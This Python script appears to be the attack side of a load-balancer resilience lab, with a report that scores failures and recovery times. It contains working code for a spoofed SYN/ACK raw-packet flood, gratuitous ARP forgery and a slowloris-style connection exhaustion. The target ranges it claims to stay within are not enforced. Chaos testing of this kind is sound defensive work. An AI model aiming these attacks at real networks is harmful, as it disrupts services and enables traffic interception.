#!/usr/bin/env python3
"""The hostile side of `lab.sh scenario chaos`, and its report. Every load is bounded in count
and time, and sends only inside the lab's namespaces (198.18.0.0/15).

flood IF VIP PORT --pairs N --seconds S
    spoofed SYN, then ACK, from random 198.19.2-250.x sources to VIP:PORT, out of IF (raw IPv4
    packets: the director sees only the client half of a DR handshake, so a blind spoofer
    completes it).
forge-arp IF IP --seconds S
    gratuitous ARP claiming IP for a made-up MAC, twice a second, out of IF.
slow-admin HOST:PORT... --seconds S --connections N
    N connections to each admin endpoint that send one byte and wait; meanwhile a probe of
    /healthz with a 1 s timeout every 0.2 s; prints {"probes": n, "failed": f}.
report WATCH_LOG MARKS
    reads the watcher's JSON lines and the fault marks ("start NAME T", "end NAME T"), prints per
    fault and target the requests failed and the time to recover; exit 1 when a target did not
    recover within 30 s of its fault's end.
"""
import argparse
import json
import os
import random
import socket
import struct
import sys
import time


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def tcp_packet(src, dst, sport, dport, flags, seq, ack):
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 5 << 4, flags, 64240, 0, 0)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), random.randrange(65536), 0x4000, 64, 6, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ip + tcp


def flood(a):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, a.interface.encode())
    end = time.monotonic() + a.seconds
    sent = 0
    pace = a.seconds / max(1, a.pairs)
    while sent < a.pairs and time.monotonic() < end:
        src = "198.19.%d.%d" % (random.randint(2, 250), random.randint(1, 254))
        sport = random.randint(1024, 65535)
        seq = random.randrange(1 << 32)
        s.sendto(tcp_packet(src, a.vip, sport, a.port, 0x02, seq, 0), (a.vip, 0))
        s.sendto(tcp_packet(src, a.vip, sport, a.port, 0x10, seq + 1, random.randrange(1 << 32)), (a.vip, 0))
        sent += 1
        if sent % 100 == 0:
            ahead = sent * pace - (a.seconds - (end - time.monotonic()))
            if ahead > 0:
                time.sleep(ahead)
    print(json.dumps({"pairs": sent}), flush=True)


def forge_arp(a):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((a.interface, 0))
    fake = bytes([0x02, 0x66, 0x66, 0x66, 0x66, 0x66])
    ip = socket.inet_aton(a.ip)
    frame = (b"\xff" * 6 + fake + b"\x08\x06" + struct.pack("!HHBBH", 1, 0x0800, 6, 4, 1)
             + fake + ip + b"\0" * 6 + ip)
    end = time.monotonic() + a.seconds
    sent = 0
    while time.monotonic() < end and sent < 1000:
        s.send(frame)
        sent += 1
        time.sleep(0.5)
    print(json.dumps({"forged": sent}), flush=True)


def slow_admin(a):
    held = []
    for target in a.targets:
        host, port = target.rsplit(":", 1)
        for _ in range(a.connections):
            c = socket.create_connection((host, int(port)), timeout=2)
            c.send(b"G")
            held.append(c)
    probes = failed = 0
    end = time.monotonic() + a.seconds
    while time.monotonic() < end:
        for target in a.targets:
            host, port = target.rsplit(":", 1)
            probes += 1
            try:
                with socket.create_connection((host, int(port)), timeout=1) as c:
                    c.settimeout(1)
                    c.sendall(b"GET /healthz HTTP/1.0\r\n\r\n")
                    if not c.recv(64).startswith(b"HTTP/1.1 200"):
                        failed += 1
            except OSError:
                failed += 1
        time.sleep(0.2)
    for c in held:
        c.close()
    print(json.dumps({"probes": probes, "failed": failed}), flush=True)


def report(a):
    samples = []
    with open(a.watch) as f:
        for line in f:
            if line.startswith('{"t"'):
                samples.append(json.loads(line))
    marks = {}
    order = []
    with open(a.marks) as f:
        for line in f:
            kind, name, t = line.split()
            marks.setdefault(name, {})[kind] = float(t)
            if name not in order:
                order.append(name)
    targets = sorted({s["target"] for s in samples})
    failed_any = False
    print("%-26s %-20s %8s %9s %12s" % ("fault", "target", "failed", "requests", "recovered s"))
    for i, name in enumerate(order):
        start, stop = marks[name]["start"], marks[name].get("end", marks[name]["start"])
        next_start = marks[order[i + 1]]["start"] if i + 1 < len(order) else float("inf")
        for target in targets:
            window = [s for s in samples if s["target"] == target and start <= s["t"] < next_start]
            failed = sum(1 for s in window if not s["ok"])
            # recovered: from the end of the fault to the first success followed by four more
            recovered = None
            for j, s in enumerate(window):
                if s["t"] >= stop and all(x["ok"] for x in window[j:j + 5]) and len(window[j:j + 5]) == 5:
                    recovered = max(0.0, s["t"] - stop)
                    break
            if recovered is None or recovered > 30:
                failed_any = True
            print("%-26s %-20s %8d %9d %12s" % (name, target, failed, len(window),
                                                "NO" if recovered is None else "%.2f" % recovered))
    return 1 if failed_any else 0


def main():
    p = argparse.ArgumentParser()
    sub = p.add_subparsers(dest="command", required=True)
    f = sub.add_parser("flood")
    f.add_argument("interface"), f.add_argument("vip"), f.add_argument("port", type=int)
    f.add_argument("--pairs", type=int, default=20000), f.add_argument("--seconds", type=float, default=5)
    g = sub.add_parser("forge-arp")
    g.add_argument("interface"), g.add_argument("ip"), g.add_argument("--seconds", type=float, default=5)
    w = sub.add_parser("slow-admin")
    w.add_argument("targets", nargs="+"), w.add_argument("--seconds", type=float, default=5)
    w.add_argument("--connections", type=int, default=50)
    r = sub.add_parser("report")
    r.add_argument("watch"), r.add_argument("marks")
    a = p.parse_args()
    sys.exit({"flood": flood, "forge-arp": forge_arp, "slow-admin": slow_admin, "report": report}[a.command](a) or 0)


if __name__ == "__main__":
    main()
